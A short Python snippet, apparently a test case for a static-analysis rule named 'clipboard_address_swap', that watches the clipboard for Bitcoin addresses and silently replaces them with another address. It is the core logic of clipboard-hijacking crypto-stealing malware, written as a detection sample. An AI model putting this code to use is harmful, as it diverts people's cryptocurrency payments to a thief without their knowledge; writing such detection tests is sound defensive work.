import re, time, pyperclip
ADDRESS = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')
while True:
    if ADDRESS.match(pyperclip.paste()):
        # ruleid: clipboard_address_swap
        pyperclip.copy(OWN)
    time.sleep(0.5)
